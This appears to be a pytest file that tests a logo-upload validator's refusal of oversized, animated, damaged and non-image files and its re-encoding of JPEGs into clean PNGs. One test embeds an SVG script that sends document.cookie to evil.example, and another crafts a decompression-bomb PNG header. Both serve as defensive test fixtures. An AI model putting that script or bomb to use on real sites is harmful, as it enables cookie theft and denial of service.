"""Logo uploads: only still PNG/JPEG/WEBP under 5 MB, re-encoded as a clean RGBA PNG."""

import io
import struct
import zlib

import pytest
from PIL import Image

from branding.overlay import BrandingError, validate_logo


def _png(size=(300, 100), mode="RGBA", colour=(10, 20, 30, 255)) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size, colour).save(out, "PNG")
    return out.getvalue()


def test_a_40_mb_logo_is_refused_with_the_limit_in_the_message():
    data = _png() + b"\x00" * (40 * 1024 * 1024)
    with pytest.raises(BrandingError, match="5 MB"):
        validate_logo(data)


def test_an_animated_gif_is_refused():
    frames = [Image.new("RGB", (50, 50), (i * 60, 0, 0)) for i in (1, 2, 3)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100)
    with pytest.raises(BrandingError, match="Animated"):
        validate_logo(out.getvalue())


def test_an_animated_png_is_refused():
    frames = [Image.new("RGBA", (50, 50), (i * 60, 0, 0, 255)) for i in (1, 2, 3)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:], duration=100)
    with pytest.raises(BrandingError, match="Animated"):
        validate_logo(out.getvalue())


def test_an_animated_webp_is_refused():
    frames = [Image.new("RGB", (50, 50), (0, i * 60, 0)) for i in (1, 2, 3)]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=100)
    with pytest.raises(BrandingError, match="Animated"):
        validate_logo(out.getvalue())


def test_an_svg_with_a_script_is_refused_with_the_formats_we_take():
    svg = (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>fetch('https://evil.example/'+document.cookie)</script>"
        b'<rect width="10" height="10"/></svg>'
    )
    with pytest.raises(BrandingError) as error:
        validate_logo(svg)
    assert error.value.message.startswith("Please upload your logo as PNG, JPG or WEBP")


def test_a_truncated_png_is_refused_as_damaged():
    noisy = Image.effect_noise((400, 400), 80).convert("RGB")
    out = io.BytesIO()
    noisy.save(out, "PNG")
    with pytest.raises(BrandingError, match="damaged or incomplete"):
        validate_logo(out.getvalue()[: len(out.getvalue()) // 2])


def test_a_decompression_bomb_is_refused_before_decoding():
    # A valid PNG whose header claims 60000 x 60000 pixels: tiny file, 3.6 gigapixels.
    data = bytearray(_png((1, 1)))
    ihdr_start = 8 + 8
    data[ihdr_start : ihdr_start + 8] = struct.pack(">II", 60000, 60000)
    crc = zlib.crc32(bytes(data[12 : ihdr_start + 13]))
    data[ihdr_start + 13 : ihdr_start + 17] = struct.pack(">I", crc)
    with pytest.raises(BrandingError, match="pixels"):
        validate_logo(bytes(data))


def test_a_still_gif_and_random_bytes_are_refused():
    out = io.BytesIO()
    Image.new("P", (20, 20), 1).save(out, "GIF")
    with pytest.raises(BrandingError, match="PNG, JPG or WEBP"):
        validate_logo(out.getvalue())
    with pytest.raises(BrandingError, match="PNG, JPG or WEBP"):
        validate_logo(b"MZ\x90\x00 definitely not an image" * 10)


def test_a_big_jpeg_logo_becomes_a_clean_rgba_png_of_at_most_1024_px():
    exif = Image.Exif()
    exif[0x010E] = "camera metadata that must not survive"
    exif[0x0112] = 6  # rotated 90° clockwise: the sanitised logo must come out upright
    out = io.BytesIO()
    Image.new("RGB", (3000, 750), (200, 30, 60)).save(out, "JPEG", exif=exif)

    cleaned = validate_logo(out.getvalue())

    logo = Image.open(io.BytesIO(cleaned))
    assert logo.format == "PNG" and logo.mode == "RGBA"
    assert logo.size == (256, 1024)  # orientation applied, then downsized
    assert not logo.getexif() and "exif" not in logo.info
    r, g, b, a = logo.getpixel((128, 512))
    assert abs(r - 200) < 8 and abs(g - 30) < 8 and abs(b - 60) < 8 and a == 255


def test_a_transparent_png_keeps_its_transparency():
    cleaned = validate_logo(_png(colour=(0, 0, 0, 0)))
    assert Image.open(io.BytesIO(cleaned)).getpixel((5, 5))[3] == 0
